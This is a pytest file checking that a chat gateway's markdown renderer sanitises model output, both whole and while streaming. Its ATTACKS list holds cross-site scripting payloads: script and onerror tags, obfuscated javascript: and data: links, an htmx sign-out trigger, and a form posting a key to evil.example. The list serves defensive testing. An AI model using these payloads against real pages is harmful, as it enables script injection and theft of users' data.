from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from callboard_gateway.pages.chat.markdown import MAX_CHARS, Labels, LiveMarkdown, render, spoken

LABELS = Labels("Code", "Copy code")
ALLOWED = {"href", "title", "target", "rel", "class", "start", "type", "tabindex", "role", "aria-label"}

RICH = """\
# Trains

The *9:40* goes to **Busan**,
and `KTX` is [fast](https://example.org/ktx "KTX").

| city | minutes |
|:-----|--------:|
| Daejeon | 50 |

1. Seoul
2. Busan
   - Haeundae

```python
print("<b>hello</b>")

print(2)
```

> far
"""


class Elements(HTMLParser):
    """What a browser would make of it: every element with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text <svg/onload=alert(1)> text",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/pixel.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "onmouseover=alert(1)")',
    "```<script>alert(1)</script>\n<script>alert(2)</script>\n```",
    '```"onclick=alert(1) x="\ny\n```',
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '<div hx-get="/sign-out" hx-trigger="load" hx-swap-oob="true" id="composer">x</div>',
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><input name=key></form>",
    "[x](/language/ko)",
]


@pytest.mark.parametrize("text", ATTACKS)
@pytest.mark.parametrize("live", [False, True])
def test_nothing_a_model_writes_can_run_or_ask_another_host(text: str, live: bool) -> None:
    html = render(text, LABELS)
    if live:
        writing = LiveMarkdown(LABELS)
        html = ""
        for character in text:
            writing.add(character)
            finished, tail = writing.take()
            html += finished + tail  # every state that a reader may see
    for tag, attributes in Elements(html).found:
        assert tag not in ("script", "img", "svg", "iframe", "style", "form", "input", "object"), html
        assert attributes.keys() <= ALLOWED, html
        assert re.match(r"https?://|mailto:", attributes.get("href") or "https://"), html


def test_a_picture_is_a_link_to_it() -> None:
    html = render("![a cat](https://example.org/cat.png)", LABELS)
    assert 'href="https://example.org/cat.png"' in html
    assert ">a cat</a>" in html


def test_links_open_apart_and_tell_nobody_where_from() -> None:
    assert Elements(render("<https://example.org>", LABELS)).found[1] == (
        "a",
        {"href": "https://example.org", "target": "_blank", "rel": "noopener noreferrer nofollow"},
    )


def test_markdown_is_shown_as_what_it_means() -> None:
    html = render(RICH, LABELS)
    for part in (
        "<h3>Trains</h3>", "<em>9:40</em>", "<strong>Busan</strong>", "<code>KTX</code>", '<td class="right">50</td>',
        "<ol>", "<blockquote>", "<span>python</span>", '<button type="button" class="copy">Copy code</button>',
        'print("&lt;b&gt;hello&lt;/b&gt;")',
    ):  # fmt: skip
        assert part in html, part
    assert "style=" not in html  # the page's policy allows none


def test_a_new_line_stays_one() -> None:
    assert "roses<br>" in render("roses\nviolets", LABELS)


def test_what_is_too_long_to_read_as_markdown_is_shown_as_it_was_written() -> None:
    html = render("<b>*" * (MAX_CHARS // 4 + 1), LABELS)
    assert html.startswith('<p class="plain">&lt;b&gt;*')
    assert len(Elements(html).found) == 1


@pytest.mark.parametrize("size", [1, 3, 17, 1000])
def test_what_is_written_bit_by_bit_comes_to_the_same(size: int) -> None:
    writing = LiveMarkdown(LABELS)
    shown = tail = ""
    for start in range(0, len(RICH), size):
        writing.add(RICH[start : start + size])
        finished, tail = writing.take()
        shown += finished
    assert shown + tail == render(RICH, LABELS)


def test_a_block_that_is_finished_is_sent_once() -> None:
    writing = LiveMarkdown(LABELS)
    writing.add("first\n\nsec")
    assert writing.take() == ("<p>first</p>\n", "<p>sec</p>\n")
    writing.add("ond")
    assert writing.take() == ("", "<p>second</p>\n")


def test_an_open_code_block_is_one_block_with_blank_lines_in_it() -> None:
    writing = LiveMarkdown(LABELS)
    writing.add("```\na\n\nb\n")
    finished, tail = writing.take()
    assert (finished, "a\n\nb\n" in tail) == ("", True)


def test_a_voice_says_the_words_and_no_code() -> None:
    assert spoken(RICH).splitlines() == [
        "Trains", "The 9:40 goes to Busan, and KTX is fast.", "city", "minutes", "Daejeon", "50", "Seoul", "Busan",
        "Haeundae", "far",
    ]  # fmt: skip
    assert spoken("![a cat](https://example.org/cat.png) sleeps") == "a cat sleeps"
    assert spoken("```\ncode\n```") == ""
